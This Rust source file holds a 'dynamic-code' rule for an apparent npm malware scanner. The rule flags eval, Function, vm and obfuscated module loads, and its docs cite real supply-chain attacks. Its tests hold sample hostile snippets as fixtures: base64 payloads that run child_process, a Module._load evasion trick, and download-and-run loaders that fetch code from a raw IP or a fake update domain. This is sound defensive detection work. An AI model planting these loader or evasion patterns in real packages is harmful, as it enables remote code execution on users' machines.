//! `dynamic-code`: code built from strings at run time (eval, Function, vm, module._compile)
//! and modules loaded by computed or decoded names.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals;
use super::sinks::{self, is_computed, value_decoded};
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, Value};

pub struct DynamicCode;

static INFO: RuleInfo = RuleInfo {
    id: "dynamic-code",
    severity: Severity::Moderate,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Eval],
    summary:
        "Evaluates code built at run time (eval, Function, vm, module._compile) or loads modules by computed names",
    docs: r#"## What it detects

- `eval` (direct and indirect: `(0, eval)(x)`, `globalThis.eval`, `window['eval']`), `Function` and
  `new Function`, `vm.runInThisContext`/`runInNewContext`/`runInContext`/`compileFunction`,
  `new vm.Script`, and `module._compile` on a hand-made module;
- `require(x)` and `import(x)` where `x` is computed or decoded;
- `Module._load('child_process')` (through `module.constructor._load`, `require('module')._load`):
  Node's internal loader called by hand for a built-in that runs processes, touches files or
  the network (high): nothing but evasion calls it that way.

Severity rises with where the code comes from:
- **high**: the code or module name was decoded at run time (`eval(atob(…))`,
  `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString())`), or a small (< 50 KB),
  hand-written file `eval`s a computed string and also talks to the network (download-and-eval),
  or compiles one with `Function` or `vm` in a tiny file (< 4 KB) or one that talks to a raw IP
  or an exfiltration service (module runners like vitest use `vm` next to `fetch` in larger
  files and stay moderate); **critical** when that file talks to a raw IP or an exfiltration
  service (a paste site, a request bin); a loader finding also carries the network capability,
  so an install hook that runs the loader scores as fetching and running code;
- **moderate**: `eval`, `vm` or `_compile` of a computed string;
- **low**: `Function`/`eval` of a literal, `new Function(computed)` (template engines and schema
  compilers do this), `require` of a computed path (plugin loaders).

## Real attacks

- event-stream 3.3.6 / flatmap-stream 0.1.1 (November 2018): decrypted a payload with the
  consuming package's description as key and ran it with `module._compile`.
- Many typosquats (`electorn`, `discordi.js`, …) wrap their stealer in `eval(atob('…'))` or
  `new Function(Buffer.from(…,'base64').toString())()`.
- Download-and-eval loaders (`https.get(url, r => … eval(body))`) in fake "config" and
  "logger" packages, and second stages fetched from paste sites.

## Known false positives

Template engines (lodash.template, ejs, handlebars), schema compilers (ajv) and module loaders
(jest, ts-node, pirates) compile code from strings: they stay low or moderate. Polyfills use
`Function('return this')()`, which is ignored.
"#,
};

const MAX_LOW_FINDINGS: usize = 3;

/// A file this small that downloads data and compiles a computed string is a loader.
const TINY_FILE: usize = 4_000;

impl FileRule for DynamicCode {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let small_handwritten = sinks::is_small_handwritten(file);
        let downloads = small_handwritten && sinks::has_network(file);
        // `Function` and `vm` next to the network are also how test runners and template
        // servers work; they count as a loader in a tiny file or one that talks to a raw IP
        // or an exfiltration service.
        let target = if downloads {
            super::env_harvest::exfil_target(file)
        } else {
            None
        };
        let loader = downloads && (file.metrics.bytes.max(file.size as usize) < TINY_FILE || target.is_some());
        let mut budget = sinks::LowBudget::new(MAX_LOW_FINDINGS);
        for call in &file.calls {
            let context = Download {
                eval: downloads,
                any: loader,
                target: target.as_deref(),
            };
            if let Some(classified) = classify(call, &context) {
                let before = out.len();
                let loads = classified.2.ends_with("a download-and-run loader");
                budget.push_call_finding(out, &INFO, file, call, classified);
                // A loader fetches what it runs: the finding carries the network too.
                for finding in out.iter_mut().skip(before).filter(|_| loads) {
                    if !finding.capabilities.contains(&Capability::Network) {
                        finding.capabilities.push(Capability::Network);
                    }
                }
            }
        }
    }
}

/// What a file's network use says about the code it evaluates.
struct Download<'t> {
    /// A small hand-written file that talks to the network: `eval` of a computed string there
    /// is a loader.
    eval: bool,
    /// So is `Function` or `vm` (a tiny file, or one that talks to `target`).
    any: bool,
    /// The raw IP or exfiltration service the file talks to, if any.
    target: Option<&'t str>,
}

/// Built-in modules worth hiding from a reader: processes, files, network, code.
const SENSITIVE_MODULES: &[&str] = &[
    "child_process",
    "node:child_process",
    "fs",
    "node:fs",
    "http",
    "https",
    "net",
    "dns",
    "vm",
    "os",
];

fn classify(call: &Call, download: &Download<'_>) -> Option<(Severity, Confidence, String)> {
    let callee = sinks::normalize(&call.callee);
    if signals::method(callee) == "_load" {
        // `module.constructor._load('child_process')`: Node's internal loader called by hand,
        // which skips `require` and whatever reads or hooks it.
        let name = call.args.first().and_then(Value::as_str)?;
        if !SENSITIVE_MODULES.contains(&name) {
            return None;
        }
        return Some((
            Severity::High,
            Confidence::Medium,
            format!("Loads `{name}` through Module._load instead of require: an import hidden from readers and hooks"),
        ));
    }
    if matches!(callee, "require" | "import" | "module.require" | "require.call") {
        let specifier = call.args.first()?;
        // `import('data:text/javascript;base64,…')`: code shipped inside a string.
        if let Some(url) = specifier.as_str().map(str::to_ascii_lowercase) {
            if url.starts_with("data:") && url.contains("javascript") {
                // The module's text, when it is base64: what it does decides the severity.
                let text = specifier
                    .as_str()
                    .and_then(|s| s.split_once(";base64,"))
                    .and_then(|(_, b64)| {
                        use base64::Engine;
                        base64::engine::general_purpose::STANDARD.decode(b64.trim()).ok()
                    })
                    .map(|bytes| String::from_utf8_lossy(&bytes).to_ascii_lowercase())
                    .unwrap_or_default();
                let runs = ["child_process", "eval(", "exec(", "spawn(", "function("]
                    .iter()
                    .any(|m| text.contains(m));
                return Some((
                    if runs { Severity::Critical } else { Severity::High },
                    Confidence::High,
                    format!(
                        "Loads code from a `data:` URL with {callee}: a module hidden inside a string{}",
                        if runs { " that runs processes or code" } else { "" }
                    ),
                ));
            }
        }
        if value_decoded(specifier) {
            let name = specifier
                .as_str()
                .map(|s| palisade_core::bounded_excerpt(s, 60))
                .unwrap_or_default();
            return Some((
                Severity::High,
                Confidence::High,
                format!("Loads a module whose name is decoded at run time (`{name}`), hiding what it uses"),
            ));
        }
        if is_computed(specifier) && !is_path_building(call, specifier) {
            return Some((
                Severity::Low,
                Confidence::Low,
                format!("Loads a module by a computed name ({callee}(…))"),
            ));
        }
        return None;
    }
    let is_timer_string =
        matches!(callee, "setTimeout" | "setInterval") && matches!(call.args.first(), Some(Value::Str { .. }));
    if !sinks::is_eval(call) && !is_timer_string {
        return None;
    }
    // `Function(a, b, body)`: the body is the last argument.
    let code = if callee == "Function" {
        call.args.last()
    } else {
        call.args.first()
    };
    let code = code?;
    let what = match callee {
        "Function" if call.is_new => "new Function",
        "Function" => "Function",
        other => other,
    };
    if value_decoded(code) {
        return Some((
            Severity::High,
            Confidence::High,
            format!("Evaluates code that is decoded at run time with {what}: the payload is hidden from readers"),
        ));
    }
    if let Some(text) = code.as_str() {
        let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
        if matches!(
            compact.as_str(),
            "returnthis" | "returnthis;" | "\"usestrict\";returnthis" | "returnglobalThis"
        ) {
            return None;
        }
        if is_timer_string {
            return None;
        }
        return Some((
            Severity::Low,
            Confidence::Medium,
            format!("Evaluates a literal string with {what}"),
        ));
    }
    if is_timer_string {
        return None;
    }
    if (download.eval && callee == "eval") || download.any {
        return Some(match download.target {
            Some(target) => (
                Severity::Critical,
                Confidence::High,
                format!("Evaluates a computed string with {what} in a small file that downloads from {target}: a download-and-run loader"),
            ),
            None => (
                Severity::High,
                Confidence::Medium,
                format!("Evaluates a computed string with {what} in a small file that also downloads data: a download-and-run loader"),
            ),
        });
    }
    if callee == "Function" {
        return Some((
            Severity::Low,
            Confidence::Low,
            format!("Compiles a computed string with {what}"),
        ));
    }
    Some((
        Severity::Moderate,
        Confidence::Low,
        format!("Evaluates a computed string with {what}"),
    ))
}

/// `require(path.join(__dirname, x))`, `require(require.resolve(x))`: loading by path, not hiding.
fn is_path_building(call: &Call, value: &Value) -> bool {
    let by_callee = matches!(value, Value::CallResult { callee } if matches!(sinks::normalize(callee), "path.join" | "path.resolve" | "require.resolve"));
    let by_text = ["path.join(", "path.resolve(", "require.resolve(", "__dirname"]
        .iter()
        .any(|m| call.excerpt.contains(m));
    by_callee || by_text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("lib/index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        DynamicCode.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    #[test]
    fn data_url_imports_and_function_constructors_are_high() {
        let source = "const p = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=';\nimport('data:text/javascript;base64,' + p);";
        assert_eq!(worst(source), Severity::Critical, "{:#?}", run(source));
        let plain = "import('data:text/javascript;base64,ZXhwb3J0IGRlZmF1bHQgMTs=');";
        assert_eq!(worst(plain), Severity::High, "{:#?}", run(plain));
        let ctor = "const k = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=';\nconst f = (function () {}).constructor;\nf(Buffer.from(k, 'base64').toString())();";
        assert_eq!(worst(ctor), Severity::High, "{:#?}", run(ctor));
        let jsfuck = "[]['filter']['constructor'](atob('cmV0dXJuIDE='))();";
        assert_eq!(worst(jsfuck), Severity::High, "{:#?}", run(jsfuck));
    }

    #[test]
    fn module_load_of_child_process_is_high() {
        let source = "const m = process.mainModule || module;\nconst cp = m.constructor._load(['child', 'process'].join('_'));\ncp.exec(cmd);";
        assert_eq!(worst(source), Severity::High, "{:#?}", run(source));
        // A cache's own `_load(key)` is not Node's loader.
        assert!(run("const v = cache._load('settings');").is_empty());
    }

    #[test]
    fn plain_code_and_literal_requires_are_quiet() {
        assert!(run("const fs = require('fs'); import('./chunk.js'); module.exports = () => fs;").is_empty());
        assert!(run("var g = Function('return this')();").is_empty());
    }

    #[test]
    fn eval_of_decoded_string_is_high() {
        let findings = run("const p = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(p, 'base64').toString('utf8'));");
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::High);
        assert_eq!(findings[0].line, Some(2));
        assert_eq!(findings[0].capabilities, vec![Capability::Eval]);
    }

    #[test]
    fn new_function_of_atob_is_high() {
        assert_eq!(worst("new Function(atob('cmV0dXJuIDE='))();"), Severity::High);
    }

    #[test]
    fn require_of_decoded_name_is_high() {
        let source = "const m = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.exec('id');";
        assert_eq!(worst(source), Severity::High);
    }

    #[test]
    fn download_and_eval_is_high() {
        let source = "const https = require('https');\nhttps.get('https://cdn.example.invalid/s', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });";
        assert_eq!(worst(source), Severity::High);
    }

    #[test]
    fn function_or_vm_of_downloaded_code_in_a_loader_is_high() {
        let ip = "(async () => {\n  const r = await fetch('http://91.92.120.55:3000/api/config');\n  new Function('require', await r.text())(require);\n})();";
        assert_eq!(worst(ip), Severity::Critical, "{:?}", run(ip));
        assert!(run(ip)[0].message.contains("91.92.120.55"));
        let tiny = "const vm = require('vm'), http = require('http');\nhttp.get({ host: 'update-cdn-check.xyz', path: '/v1/loader.js' }, (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => vm.runInThisContext(Buffer.concat(chunks).toString()));\n});";
        assert_eq!(worst(tiny), Severity::High, "{:?}", run(tiny));
        assert!(
            run(tiny)[0].capabilities.contains(&Capability::Network),
            "{:?}",
            run(tiny)
        );
        // A module runner: larger, fetching from its own dev server, stays moderate.
        let runner = format!(
            "const vm = require('vm');\n{}\nmodule.exports = async (url) => {{ const r = await fetch(url); return vm.runInThisContext(await r.text()); }};",
            "// module runner internals\n".repeat(250)
        );
        assert_eq!(worst(&runner), Severity::Moderate, "{:?}", run(&runner));
    }

    #[test]
    fn vm_of_computed_code_is_moderate_and_template_compilers_low() {
        assert_eq!(
            worst("const vm = require('vm');\nmodule.exports = (src) => vm.runInThisContext(src);"),
            Severity::Moderate
        );
        assert_eq!(
            worst("module.exports = (body) => new Function('data', body);"),
            Severity::Low
        );
    }

    #[test]
    fn computed_require_is_low_and_path_join_ignored() {
        assert_eq!(worst("module.exports = (name) => require(name);"), Severity::Low);
        assert!(
            run("const path = require('path');\nmodule.exports = (n) => require(path.join(__dirname, n));").is_empty()
        );
    }
}
